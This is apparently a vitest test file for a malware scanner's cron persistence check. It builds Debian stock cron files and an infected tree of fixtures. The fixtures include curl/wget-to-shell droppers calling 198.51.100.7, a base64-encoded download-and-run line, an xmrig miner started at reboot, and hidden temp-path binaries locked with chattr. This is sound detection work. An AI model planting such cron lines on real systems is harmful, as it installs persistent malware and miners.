/**
 * The cron check over planted trees: every indicator of the brief in the crontab,
 * cron.d, cron.hourly, Debian and RHEL spool files and anacrontab, with exact rule ids,
 * severities, lines and families, remediation adapted to the kind of file (and to
 * chattr +i), started programs recorded for the hash check; a clean tree made of
 * Debian's stock cron files (and this machine's, when it has them) gives nothing of
 * medium severity or more; hostile files neither crash nor stall the check.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { cp, mkdir, readdir, stat, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { cronCheck } from '../../src/checks/cron.js';
import type { Check, StartedFile } from '../../src/model/check.js';
import { severityRank } from '../../src/model/finding.js';
import { scanDirectory, scanHostile } from '../helpers/scan-dir.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { fixture } from '../helpers/fixtures.js';

const run = promisify(execFile);
const PAYLOAD = Buffer.from('curl -fsSL http://198.51.100.7/gi.sh | bash').toString('base64');
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]), Buffer.from('miner\n')]);

/** Debian bookworm's /etc/crontab. */
const STOCK_CRONTAB = `# /etc/crontab: system-wide crontab
# Unlike any other crontab you don't have to run the \`crontab'
# command to install the new version when you edit this file
# and files in /etc/cron.d. These files also have username fields,
# that none of the other crontabs do.

SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

# Example of job definition:
# .---------------- minute (0 - 59)
# |  .------------- hour (0 - 23)
# |  |  .---------- day of month (1 - 31)
# |  |  |  .------- month (1 - 12) OR jan,feb,mar,apr ...
# |  |  |  |  .---- day of week (0 - 6) (Sunday=0 or 7) OR sun,mon,tue,wed,thu,fri,sat
# |  |  |  |  |
# *  *  *  *  * user-name command to be executed
17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
52 6\t1 * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }
#
`;
const STOCK_CRONTAB_LINES = STOCK_CRONTAB.split('\n').length - 1;

/** Stock jobs of packages a Debian server commonly has. */
const STOCK_FILES: Record<string, string> = {
  'etc/crontab': STOCK_CRONTAB,
  'etc/cron.d/e2scrub_all': `30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron
10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r
`,
  'etc/cron.d/php': `# This purges session files in session.save_path older than X,
09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi
`,
  'etc/cron.d/certbot': `SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew
`,
  'etc/cron.d/sysstat': `PATH=/usr/lib/sysstat:/usr/sbin:/usr/sbin:/usr/bin:/sbin:/bin
5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1
59 23 * * * root command -v debian-sa1 > /dev/null && debian-sa1 60 2
`,
  'etc/cron.d/.placeholder': '# DO NOT EDIT OR REMOVE\n# This file is a simple placeholder to keep dpkg from removing this directory\n',
  'etc/cron.daily/dpkg': `#!/bin/sh

# Skip if systemd is running.
if [ -d /run/systemd/system ]; then
  exit 0
fi

/usr/libexec/dpkg/dpkg-db-backup
`,
  'etc/cron.daily/logrotate': `#!/bin/sh

# skip in favour of systemd timer
if [ -d /run/systemd/system ]; then
    exit 0
fi

# this cronjob persists removals (but not purges)
if [ ! -x /usr/sbin/logrotate ]; then
    exit 0
fi

/usr/sbin/logrotate /etc/logrotate.conf
EXITVALUE=$?
if [ $EXITVALUE != 0 ]; then
    /usr/bin/logger -t logrotate "ALERT exited abnormally with [$EXITVALUE]"
fi
exit $EXITVALUE
`,
  'etc/cron.daily/man-db': `#!/bin/sh
#
# man-db cron daily

set -e

if [ -d /run/systemd/system ]; then
    exit 0
fi

iosched_idle=
# Don't try to change I/O priority in a vserver or OpenVZ.
if ! grep -Eq '(envID|VxID):.*[1-9]' /proc/self/status && \\
   { [ ! -d /proc/vz ] || [ -d /proc/bc ]; }; then
    iosched_idle='--iosched idle'
fi

if ! [ -d /var/cache/man ]; then
    # Recover from deletion, per FHS.
    install -d -o man -g man -m 0755 /var/cache/man
fi

# expunge old catman pages which have not been read in a week
if [ -d /var/cache/man ]; then
  cd /
  if ! dpkg-statoverride --list /var/cache/man >/dev/null 2>&1; then
    find /var/cache/man -ignore_readdir_race ! -user man -print0 | \\
      xargs -r0 chown -f man || true
  fi
  start-stop-daemon --start --pidfile /dev/null --startas /bin/sh \\
	--oknodo --chuid man $iosched_idle -- -c \\
	"find /var/cache/man -type f -name '*.gz' -atime +6 -print0 | \\
	 xargs -r0 rm -f"
fi

# regenerate man database
if [ -x /usr/bin/mandb ]; then
    # --pidfile /dev/null so it always starts; mandb isn't really a daemon,
    # but we want to start it like one.
    start-stop-daemon --start --pidfile /dev/null \\
		      --startas /usr/bin/mandb --oknodo --chuid man \\
		      $iosched_idle \\
		      -- --no-purge --quiet
fi

exit 0
`,
  'etc/cron.daily/apt-compat': `#!/bin/sh

set -e

if [ -d /run/systemd/system ]; then
    exit 0
fi

random_sleep()
{
    RandomSleep=1800
    eval $(apt-config shell RandomSleep APT::Periodic::RandomSleep)
    if [ $RandomSleep -eq 0 ]; then
\treturn
    fi
    if [ -z "$RANDOM" ] ; then
\tRANDOM=$(( $(dd if=/dev/urandom bs=2 count=1 2> /dev/null | cksum | cut -d' ' -f1) % 32767 ))
    fi
    TIME=$(($RANDOM % $RandomSleep))
    sleep $TIME
}
random_sleep
exec /usr/lib/apt/apt.systemd.daily
`,
  'etc/anacrontab': `# /etc/anacrontab: configuration file for anacron
SHELL=/bin/sh
HOME=/root
LOGNAME=root

# These replace cron's entries
1\t5\tcron.daily\trun-parts --report /etc/cron.daily
7\t10\tcron.weekly\trun-parts --report /etc/cron.weekly
@monthly\t15\tcron.monthly\trun-parts --report /etc/cron.monthly
`,
  'var/spool/cron/crontabs/admin': `# DO NOT EDIT THIS FILE - edit the master and reinstall.
MAILTO=admin@example.org
0 0 * * * "/home/admin/.acme.sh"/acme.sh --cron --home "/home/admin/.acme.sh" > /dev/null
*/5 * * * * /home/admin/.local/bin/backup --quiet 2>&1 | logger -t backup
`,
};

/** The planted infection; line numbers below refer to these texts. */
const CRONTAB_BAD_LINE = STOCK_CRONTAB_LINES + 1;
const LOGROTATE_BAD_LINE = STOCK_FILES['etc/cron.daily/logrotate']!.split('\n').length;
const INFECTED_FILES: Record<string, string | Buffer> = {
  'etc/crontab': `${STOCK_CRONTAB}*/10 * * * * root (curl -fsSL http://198.51.100.7/upat.sh || wget -q -O- http://198.51.100.7/upat.sh) | sh\n`,
  'etc/cron.d/syslogd': '*/5 * * * * root /tmp/.X2xi-unix/.rsync/c/tsm >/dev/null 2>&1\n',
  'etc/cron.d/mine': 'MAILTO=""\n# * * * * * root curl -fsSL http://198.51.100.7/commented.sh | sh\n@reboot root /opt/m/xmrig --donate-level 1 -o stratum+tcp://pool.example.org:3333\n',
  'etc/cron.hourly/0': '#!/bin/sh\nwget -q http://198.51.100.7/gi.sh -O- | bash\n',
  'etc/cron.daily/sysupdate': ELF,
  'etc/cron.daily/logrotate': `${STOCK_FILES['etc/cron.daily/logrotate']}nohup /var/tmp/.cache/kworker >/dev/null 2>&1 &\n`,
  'var/spool/cron/crontabs/root': [
    '5 6 * * 0 /root/.configrc5/a/upd>/dev/null 2>&1',
    '@reboot /root/.configrc5/a/upd>/dev/null 2>&1',
    `*/30 * * * * echo ${PAYLOAD} | base64 -d | bash`,
    '# @reboot /tmp/.commented/x',
    '',
  ].join('\n'),
  'var/spool/cron/admin': '0 * * * * wget -q http://198.51.100.7/k -O /tmp/k; chmod +x /tmp/k; /tmp/k\n',
  'etc/anacrontab': 'SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n1\t10\tupd\t/dev/shm/.u/upd\n',
  'tmp/.X2xi-unix/.rsync/c/tsm': ELF,
  'root/.configrc5/a/upd': '#!/bin/sh\n./kswapd0\n',
  'var/tmp/.cache/kworker': ELF,
  'var/lib/dpkg/info/logrotate.list': '/etc/cron.daily/logrotate\n/usr/sbin/logrotate\n',
};
const LOCKED = ['etc/cron.d/syslogd', 'var/spool/cron/crontabs/root', 'tmp/.X2xi-unix/.rsync/c/tsm'];

type Row = [rule: string, severity: string, path: string, line: number | undefined, family: string | undefined];

const EXPECTED: Row[] = [
  ['command.download-and-run', 'high', '/etc/crontab', CRONTAB_BAD_LINE, undefined],
  ['cron.dropper-upat', 'critical', '/etc/crontab', CRONTAB_BAD_LINE, undefined],
  ['outlaw.x2xi-rsync-command', 'critical', '/etc/cron.d/syslogd', 1, 'outlaw'],
  ['command.started-from-temp', 'high', '/etc/cron.d/syslogd', 1, undefined],
  ['command.miner', 'high', '/etc/cron.d/mine', 3, undefined],
  ['command.started-miner', 'high', '/etc/cron.d/mine', 3, undefined],
  ['command.download-and-run', 'high', '/etc/cron.hourly/0', 2, undefined],
  ['cron.dropper-gi-sh', 'critical', '/etc/cron.hourly/0', 2, undefined],
  ['cron.hourly-0-download', 'high', '/etc/cron.hourly/0', 2, undefined],
  ['cron.binary-job', 'high', '/etc/cron.daily/sysupdate', undefined, undefined],
  ['command.started-from-temp', 'high', '/etc/cron.daily/logrotate', LOGROTATE_BAD_LINE, undefined],
  ['outlaw.configrc-command', 'critical', '/var/spool/cron/crontabs/root', 1, 'outlaw'],
  ['command.started-from-hidden', 'high', '/var/spool/cron/crontabs/root', 1, undefined],
  ['outlaw.configrc-command', 'critical', '/var/spool/cron/crontabs/root', 2, 'outlaw'],
  ['command.started-from-hidden', 'high', '/var/spool/cron/crontabs/root', 2, undefined],
  ['command.base64-to-shell', 'high', '/var/spool/cron/crontabs/root', 3, undefined],
  ['command.download-and-run', 'high', '/var/spool/cron/crontabs/root', 3, undefined],
  ['cron.dropper-gi-sh', 'critical', '/var/spool/cron/crontabs/root', 3, undefined],
  ['command.download-and-exec', 'high', '/var/spool/cron/admin', 1, undefined],
  ['command.download-to-temp', 'low', '/var/spool/cron/admin', 1, undefined],
  ['command.started-from-temp', 'high', '/var/spool/cron/admin', 1, undefined],
  ['command.started-from-temp', 'high', '/etc/anacrontab', 3, undefined],
];

async function writeTree(root: string, files: Record<string, string | Buffer>): Promise<void> {
  for (const [rel, content] of Object.entries(files)) {
    const file = path.join(root, rel);
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, content, { mode: rel.includes('cron.') && !rel.startsWith('etc/cron.d/') ? 0o755 : 0o644 });
  }
}

/** Runs after the checks under test and keeps what they recorded as started. */
function startedCollector(): { check: Check; started: StartedFile[] } {
  const started: StartedFile[] = [];
  return {
    started,
    check: { id: 'collect-started', description: 'test helper', phase: 'combine', paths: [], run: async (ctx) => void started.push(...ctx.startedFiles()) },
  };
}

describe('cron check', () => {
  let scratch: string;
  let infected: string;
  let clean: string;
  let hostile: string;

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-cron-');
    infected = path.join(scratch, 'infected');
    clean = path.join(scratch, 'clean');
    hostile = path.join(scratch, 'hostile');
    await writeTree(infected, { ...STOCK_FILES, ...INFECTED_FILES });
    for (const rel of LOCKED) await run('chattr', ['+i', path.join(infected, rel)]);

    await writeTree(clean, STOCK_FILES);
    // This machine's cron files and those of the debootstrapped Debian root.
    for (const source of ['/', fixture('debianRoot')]) {
      await copyCronFiles(source, clean);
    }

    await writeTree(hostile, {
      'etc/crontab': `* * * * * root ${'curl wget | sh '.repeat(70_000)}\n`.repeat(2),
      'etc/cron.d/junk': Buffer.from(Array.from({ length: 300_000 }, (_, i) => (i * 7919) % 256)),
      'etc/cron.daily/nul': Buffer.from('#!/bin/sh\n\u0000\u0000echo\n'),
      'etc/cron.d/b64': `* * * * * root echo ${Buffer.from('curl wget | sh '.repeat(12_000)).toString('base64')} | base64 -d | bash\n`,
      'var/spool/cron/crontabs/long': `@reboot ${'$('.repeat(40_000)}\n${'a\\\n'.repeat(100_000)}\n`,
    });
    await symlink('/nonexistent/job', path.join(hostile, 'etc/cron.d/dangling'));
    await run('mkfifo', [path.join(hostile, 'var/spool/cron/crontabs/fifo')]);
  });

  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it('finds every planted cron indicator with its rule, severity, line and family', async () => {
    const result = await scanDirectory(infected, [cronCheck]);
    expect(result.errors).toEqual([]);
    const rows = result.findings.map((f): Row => [f.rule, f.severity, f.path, f.line, f.family]);
    const key = (r: Row) => r.join('|');
    expect(rows.map(key).sort()).toEqual(EXPECTED.map(key).sort());
    for (const f of result.findings) {
      expect(f.category).toBe('persistence/cron');
      expect(f.remediation).toContain(f.path);
      expect(f.message).not.toMatch(/\{[a-z]+\}/);
      expect(f.remediation).not.toMatch(/\{[a-z]+\}/);
    }
  });

  it('says what runs the line, and that a hit came from a decoded payload', async () => {
    const { findings } = await scanDirectory(infected, [cronCheck]);
    const one = (rule: string, p: string, line?: number) => findings.find((f) => f.rule === rule && f.path === p && f.line === line)!;
    expect(one('cron.dropper-upat', '/etc/crontab', CRONTAB_BAD_LINE).message).toContain('cron job run as root, schedule "*/10 * * * *"');
    expect(one('outlaw.configrc-command', '/var/spool/cron/crontabs/root', 2).message).toContain('crontab of root, schedule "@reboot"');
    const decoded = one('command.download-and-run', '/var/spool/cron/crontabs/root', 3);
    expect(decoded.evidence).toBe('base64-decoded: curl -fsSL http://198.51.100.7/gi.sh | bash');
    expect(decoded.message).toMatch(/^a base64 payload decoded from \/var\/spool\/cron\/crontabs\/root:3 /);
    expect(one('command.base64-to-shell', '/var/spool/cron/crontabs/root', 3).evidence).toContain(`echo ${PAYLOAD} | base64 -d | bash`);
    expect(one('command.started-from-temp', '/etc/anacrontab', 3).message).toContain('/dev/shm/.u/upd');
  });

  it('gives remediation fitted to the file: sed for system files, crontab -u for spool files, chattr first when locked', async () => {
    const { findings } = await scanDirectory(infected, [cronCheck]);
    const fix = (rule: string, p: string, line?: number) => findings.find((f) => f.rule === rule && f.path === p && f.line === line)!.remediation;

    const crontab = fix('cron.dropper-upat', '/etc/crontab', CRONTAB_BAD_LINE);
    expect(crontab).toContain(`sed -i '${CRONTAB_BAD_LINE}d' /etc/crontab   # deletes line ${CRONTAB_BAD_LINE}: */10 * * * * root (curl -fsSL`);
    expect(crontab).not.toContain('chattr');

    const syslogd = fix('outlaw.x2xi-rsync-command', '/etc/cron.d/syslogd', 1).split('\n');
    expect(syslogd[0]).toMatch(/^chattr -ia \/etc\/cron\.d\/syslogd/);
    expect(syslogd[1]).toMatch(/^sed -i '1d' \/etc\/cron\.d\/syslogd/);
    expect(syslogd).toContainEqual(expect.stringMatching(/^chattr -ia \/tmp\/\.X2xi-unix\/\.rsync\/c\/tsm/));
    expect(syslogd).toContainEqual(expect.stringMatching(/^rm -f \/tmp\/\.X2xi-unix\/\.rsync\/c\/tsm/));

    const root = fix('outlaw.configrc-command', '/var/spool/cron/crontabs/root', 1).split('\n');
    expect(root[0]).toMatch(/^chattr -ia \/var\/spool\/cron\/crontabs\/root/);
    expect(root[1]).toBe('crontab -u root -e   # delete line 1: 5 6 * * 0 /root/.configrc5/a/upd>/dev/null 2>&1');
    expect(root).toContainEqual(expect.stringContaining('crontab -u root -r'));
    expect(root).toContainEqual(expect.stringMatching(/^rm -f \/root\/\.configrc5\/a\/upd/));

    expect(fix('command.download-and-exec', '/var/spool/cron/admin', 1)).toMatch(/^crontab -u admin -e   # delete line 1: /);
    expect(fix('cron.hourly-0-download', '/etc/cron.hourly/0', 2)).toMatch(/^rm -f \/etc\/cron\.hourly\/0 /);
    expect(fix('cron.binary-job', '/etc/cron.daily/sysupdate')).toMatch(/^rm -f \/etc\/cron\.daily\/sysupdate /);
    // A packaged script is restored by its package, not deleted.
    const logrotate = fix('command.started-from-temp', '/etc/cron.daily/logrotate', LOGROTATE_BAD_LINE);
    expect(logrotate).toMatch(/^apt-get install --reinstall logrotate /);
    expect(logrotate).toContain('rm -f /var/tmp/.cache/kworker');
  });

  it('records each program a job starts for the hash check', async () => {
    const collector = startedCollector();
    await scanDirectory(infected, [cronCheck, collector.check]);
    expect(collector.started).toEqual(
      expect.arrayContaining([
        { path: '/tmp/.X2xi-unix/.rsync/c/tsm', startedBy: '/etc/cron.d/syslogd:1' },
        { path: '/root/.configrc5/a/upd', startedBy: '/var/spool/cron/crontabs/root:1' },
        { path: '/root/.configrc5/a/upd', startedBy: '/var/spool/cron/crontabs/root:2' },
        { path: '/opt/m/xmrig', startedBy: '/etc/cron.d/mine:3' },
        { path: '/tmp/k', startedBy: '/var/spool/cron/admin:1' },
        { path: '/dev/shm/.u/upd', startedBy: '/etc/anacrontab:3' },
        { path: '/etc/cron.hourly/0', startedBy: 'run-parts /etc/cron.hourly' },
        { path: '/etc/cron.daily/sysupdate', startedBy: 'run-parts /etc/cron.daily' },
      ]),
    );
    // Commented lines start nothing.
    expect(collector.started.map((s) => s.path)).not.toContain('/tmp/.commented/x');
  });

  it('finds nothing of medium severity or more in stock Debian cron files', async () => {
    const result = await scanDirectory(clean, [cronCheck]);
    expect(result.errors).toEqual([]);
    const loud = result.findings.filter((f) => severityRank(f.severity) >= severityRank('medium'));
    expect(loud).toEqual([]);
    expect(result.filesExamined).toBeGreaterThanOrEqual(Object.keys(STOCK_FILES).length);
  });

  it('reads hostile files without crashing or stalling', async () => {
    const result = await scanHostile(hostile, [cronCheck], { maxOperations: 300 });
    expect(result.errors).toEqual([]);
    expect(result.findings.some((f) => f.path === '/etc/crontab' && f.rule === 'command.download-and-run')).toBe(true);
    expect(result.findings.some((f) => f.path === '/etc/cron.d/b64' && f.evidence.startsWith('base64-decoded: curl wget'))).toBe(true);
  });
});

/** Copies the cron files of a system root into the clean tree. */
async function copyCronFiles(source: string, dest: string): Promise<void> {
  const copy = async (rel: string) => {
    const from = path.join(source, rel);
    try {
      if (!(await stat(from)).isFile()) return;
    } catch {
      return;
    }
    await mkdir(path.dirname(path.join(dest, rel)), { recursive: true });
    await cp(from, path.join(dest, rel), { dereference: true });
  };
  await copy('etc/crontab');
  await copy('etc/anacrontab');
  for (const dir of ['etc/cron.d', 'etc/cron.hourly', 'etc/cron.daily', 'etc/cron.weekly', 'etc/cron.monthly']) {
    const names = await readdir(path.join(source, dir)).catch(() => [] as string[]);
    for (const name of names) await copy(path.join(dir, name));
  }
}
